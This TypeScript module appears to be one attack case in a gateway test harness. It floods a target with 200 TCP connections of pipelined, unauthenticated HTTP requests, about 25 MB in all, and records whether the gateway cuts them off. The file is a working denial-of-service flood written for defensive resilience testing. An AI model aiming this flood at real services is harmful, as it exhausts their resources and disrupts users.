/** Tiny requests without a credential, as many as connections take, sent without waiting for an answer. */
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Arena } from '../arena.ts';
import { type Attack, summed } from '../trial.ts';

const CONNECTIONS = 200;
/** 25 MB in all, as was reported. */
const BYTES_EACH = 125_000;
const REQUEST = 'GET /v1/models HTTP/1.1\r\nHost: a\r\n\r\n';
const PIECE = Buffer.from(REQUEST.repeat(400));
const ROUNDS_MAX = 4;

interface Seen {
  readonly sent: number;
  readonly end: 'closed by the gateway' | 'all sent' | 'open';
}

/** `reads`: whether it takes the answers. */
function flood(arena: Arena, reads: boolean, untilMs: number): Promise<Seen> {
  const { hostname, port } = new URL(arena.origin);
  return new Promise((done) => {
    const socket = connect(Number(port), hostname);
    let sent = 0;
    let over = false;
    const end = (how: Seen['end']): void => {
      if (over) return;
      over = true;
      clearTimeout(late);
      socket.destroy();
      done({ sent, end: how });
    };
    const late = setTimeout(() => end(sent >= BYTES_EACH ? 'all sent' : 'open'), Math.max(0, untilMs - Date.now()));
    const write = (): void => {
      while (sent < BYTES_EACH) {
        sent += PIECE.length;
        if (!socket.write(PIECE)) return;
      }
    };
    socket.on('error', () => end('closed by the gateway'));
    socket.on('close', () => end('closed by the gateway'));
    socket.on('drain', write);
    if (reads) socket.resume();
    socket.on('connect', write);
  });
}

export const PIPELINING: Attack = {
  name: 'pipelined requests without a credential',
  tags: 'F42',
  run: async (arena) => {
    for (let round = 0; arena.goesOn && round < ROUNDS_MAX; round++) {
      const untilMs = Date.now() + arena.leftMs / (ROUNDS_MAX - round);
      const seen = await Promise.all(
        Array.from({ length: CONNECTIONS }, (_none, index) => flood(arena, index % 2 === round % 2, untilMs)),
      );
      const megabytes = seen.reduce((sum, { sent }) => sum + sent, 0) / 1e6;
      arena.figure(`${CONNECTIONS} connections, ${megabytes.toFixed(1)} MB: ${summed(seen.map(({ end }) => end))}`);
      await delay(100);
    }
  },
};
